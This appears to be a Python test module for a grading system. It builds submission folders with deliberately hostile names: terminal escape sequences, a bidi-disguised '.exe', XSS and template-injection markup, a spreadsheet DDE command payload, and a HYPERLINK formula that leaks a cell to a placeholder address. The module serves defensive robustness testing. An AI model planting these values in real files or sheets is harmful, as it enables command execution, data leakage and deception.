"""Submissions with names that a terminal, a page, a table or a file system could trip over."""

import os
from pathlib import Path

from tests.hostile.registry import MODULE, RIGHT, builder


def renamed(path: Path, name: bytes) -> None:
    (path / MODULE).write_text(RIGHT)
    path.rename(os.fsdecode(bytes(path.parent) + b"/" + name))


@builder
def undecodable_name(path: Path) -> None:
    renamed(path, b"hostile-\xff\xfe\x80")


@builder
def terminal_name(path: Path) -> None:
    renamed(path, b"hostile-\x1b[2J\x1b]0;x\x07\n\r\x9b")


@builder
def bidi_name(path: Path) -> None:
    renamed(path, "hostile-\u202efdp.exe\u2066\u200b".encode())


@builder
def markup_name(path: Path) -> None:
    renamed(path, b"<x-injected onload=alert(1)>'\"&amp;{{7*7}}[red]")


@builder
def formula_name(path: Path) -> None:
    renamed(path, b'=HYPERLINK("mailto:x@example.invalid?"&A1,"click")')


@builder
def other_formula_name(path: Path) -> None:
    renamed(path, b"@SUM(1+1)*cmd|' C calc'!A0")


@builder
def longest_name(path: Path) -> None:
    renamed(path, b"x" * 255)


@builder
def name_of_an_output(path: Path) -> None:
    renamed(path, b"grades.csv")


@builder
def name_of_the_gradebook(path: Path) -> None:
    renamed(path, b"gradebook.sqlite")
